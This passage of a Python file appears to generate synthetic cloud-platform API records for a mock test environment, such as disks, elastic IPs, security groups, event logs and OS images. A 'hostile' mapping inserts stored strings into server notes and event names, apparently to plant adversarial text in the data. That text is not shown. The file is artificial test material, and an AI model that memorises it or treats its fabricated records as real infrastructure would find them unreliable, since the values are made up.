            "env": _ENVS[cols["env"][i]],
            "owner": _OWNERS[cols["who"][i]],
            "app": _PREFIXES[cols["prefix"][i]],
        }
        if i in self.hostile:
            meta["note"] = self.hostile[i]
        return meta

    def _disk_server(self, k: int) -> int:
        return k if k < self.n_servers else self._data_disk_server[k - self.n_servers]

    def _disk(self, j: int) -> dict:
        k = self._disk_order[j]
        s = self._disk_server(k)
        data = k >= self.n_servers
        srv = self._server(s)
        d = srv["disks_info"][1 if data else 0]
        rec = self._base("disks", j)
        rec.update(
            id=d["id"],
            name=d["name"],
            status="ready",
            disk_size=d["size"],
            disk_format="qcow2",
            disk_type=d["disk_type"],
            fs_format="ext4",
            storage_type=d["storage_type"],
            medium_type=d["medium_type"],
            storage_id=make_id(self.seed, "storage", self.server_host[s]),
            storage=f"local-{srv['zone']}-{self.server_host[s]:05d}",
            guest=srv["name"],
            guest_id=srv["id"],
            guests=[{"id": srv["id"], "name": srv["name"], "status": srv["status"]}],
            guest_count=1,
            guest_status=srv["status"],
            zone=srv["zone"],
            zone_id=srv["zone_id"],
            cloudregion=srv["cloudregion"],
            cloudregion_id=srv["cloudregion_id"],
            billing_type="postpaid",
            is_ssd=d["medium_type"] == "ssd",
            iops=3000 if d["medium_type"] == "ssd" else 500,
            throughput=150,
            brand=srv["brand"],
            provider=srv["provider"],
        )
        if not data:
            rec["template_id"] = make_id(self.seed, "image", s % 15)
        return self._owned(rec, self.tables["servers"].owner[s])

    def _eip(self, i: int) -> dict:
        s = self._eip_server[i]
        srv = self._server(s)
        rec = self._base("eips", i)
        rec.update(
            id=make_id(self.seed, "eip", i),
            name=f"eip-{i:05d}",
            status="ready",
            ip_addr=f"47.{(i >> 16) & 255}.{(i >> 8) & 255}.{i & 255}",
            bandwidth=[1, 5, 10, 100][i % 4],
            charge_type="traffic",
            mode="elastic_ip",
            associate_type="server",
            associate_id=srv["id"],
            associate_name=srv["name"],
            cloudregion=srv["cloudregion"],
            cloudregion_id=srv["cloudregion_id"],
            brand=srv["brand"],
            provider=srv["provider"],
        )
        return self._owned(rec, self.tables["eips"].owner[i])

    def _secgroup(self, i: int) -> dict:
        rec = self._base("secgroups", i)
        rec.update(
            id=make_id(self.seed, "secgroup", i),
            name=f"sg-{i:02d}",
            status="ready",
            guest_cnt=0,
            is_dirty=False,
            description="allow ssh and web" if i % 2 else "default",
        )
        return self._owned(rec, self.tables["secgroups"].owner[i])

    def _sku(self, i: int) -> dict:
        n = len(self._skus)
        cpu, mpc = self._skus[i % n]
        c = self.cloudregions[0 if i < n else 3]
        rec = self._base("serverskus", i)
        rec.update(
            id=make_id(self.seed, "sku", i),
            name=f"ecs.g{mpc // 1024}.{_size_name(cpu)}",
            status="ready",
            enabled=True,
            cpu_core_count=cpu,
            memory_size_mb=cpu * mpc,
            instance_type_family=f"g{mpc // 1024}",
            cloudregion_id=c["id"],
            cloudregion=c["name"],
            provider=c["provider"],
            sys_disk_type="local",
            local_category="general_purpose",
            postpaid_status="available",
            prepaid_status="available",
        )
        return rec

    def _event(self, i: int) -> dict:
        s = self._event_server[i]
        name = (
            (self.hostile.get(s) or f"{_PREFIXES[self.server_cols['prefix'][s]]}-{s:07d}")
            if self.n_servers
            else "x"
        )
        action = ("create", "start", "stop", "update", "sync_status", "delete")[i % 6]
        rec = {
            "id": i + 1,
            "obj_type": "server",
            "obj_id": self.server_id(s) if self.n_servers else "",
            "obj_name": name,
            "action": action,
            "notes": f'{{"status":"{action}"}}',
            "ops_time": fmt_time(self.tables["events"].created[i]),
            "start_time": fmt_time(self.tables["events"].created[i]),
            "user": "sysadmin",
            "user_id": self.users[0].id if self.users else "",
            "domain": "Default",
            "success": i % 17 != 0,
            "can_delete": False,
            "can_update": True,
        }
        return self._owned(rec, self.tables["events"].owner[i])

    def _action(self, i: int) -> dict:
        res = ("server", "host", "network", "disk")[i % 4]
        rec = {
            "id": i + 1,
            "obj_type": res,
            "obj_id": make_id(self.seed, res, i % max(self.n_servers, 1)),
            "obj_name": f"{res}-{i:05d}",
            "action": ("login", "create", "delete", "update")[i % 4],
            "notes": "",
            "service": "compute" if res != "network" else "compute",
            "ops_time": fmt_time(self.tables["actions"].created[i]),
            "start_time": fmt_time(self.tables["actions"].created[i]),
            "user": "sysadmin",
            "severity": ("INFO", "NOTICE", "WARNING")[i % 3],
            "kind": "NORMAL",
            "success": i % 23 != 0,
            "can_delete": False,
            "can_update": True,
        }
        return self._owned(rec, self.tables["actions"].owner[i])

    def _account(self, keyword: str, i: int) -> dict:
        c = self._accounts[i]
        rec = self._base(keyword + "s", i)
        name = f"{c['provider'].lower()}-account"
        rec.update(
            id=make_id(self.seed, keyword, i),
            name=name,
            status="connected",
            enabled=True,
            provider=c["provider"],
            brand=c["brand"],
            cloud_env=c["cloud_env"],
            health_status="normal",
            sync_status="idle",
            domain_id=DOMAIN_DEFAULT,
            last_sync=fmt_time(EPOCH_END),
        )
        if keyword == "cloudprovider":
            rec["cloudaccount_id"] = make_id(self.seed, "cloudaccount", i)
            rec["cloudaccount"] = name
        return rec

    def _image(self, i: int) -> dict:
        os_type, os_name = _OS[i % len(_OS)]
        fmt = ("qcow2", "raw", "vmdk")[i // len(_OS)]
        rec = self._owned(self._base("images", i), 0)
        rec.update(
            id=make_id(self.seed, "image", i),
            name=f"{os_name.lower().replace(' ', '-')}-{fmt}",
            status="active",
            size=(2 + i) * 1024**3 // 2,
            disk_format=fmt,
            checksum=hashlib.md5(f"{i}".encode()).hexdigest(),
            min_disk=30720,
            min_ram=512,
            is_public=True,
            public_scope="system",
            protected=True,
            is_standard=True,
            is_guest_image=False,
            is_data=False,
            os_arch="x86_64",
            properties={
                "os_type": os_type,
                "os_distribution": os_name.split()[0],
                "os_version": os_name.split()[-1],
            },
        )
        return rec


_SERVER_DETAIL_FIELDS = frozenset(
    {
        "disk",
        "ips",
        "macs",
        "nics",
        "disks_info",
        "host",
        "host_sn",
        "zone",
        "zone_id",
        "cloudregion",
        "cloudregion_id",
        "region",
        "region_id",
        "vpc",
        "vpc_id",
        "os_name",
        "brand",
        "provider",
        "cloud_env",
        "secgroups",
        "manager",
        "account",
        "tenant",
        "project",
        "project_domain",
        "can_delete",
        "can_update",
        "power_states",
    }
)


def _placement(c: dict) -> dict:
    """The cloud-region fields every compute record repeats."""
    return {
        "cloudregion_id": c["id"],
        "cloudregion": c["name"],
        "provider": c["provider"],
        "brand": c["brand"],
        "cloud_env": c["cloud_env"],
    }


def _host_type(hypervisor: str) -> str:
    return {"kvm": "hypervisor", "esxi": "esxi"}.get(hypervisor, hypervisor)


def _size_name(vcpu: int) -> str:
    return {1: "large", 2: "xlarge", 4: "2xlarge", 8: "4xlarge", 16: "8xlarge", 32: "16xlarge"}[
        vcpu
    ]
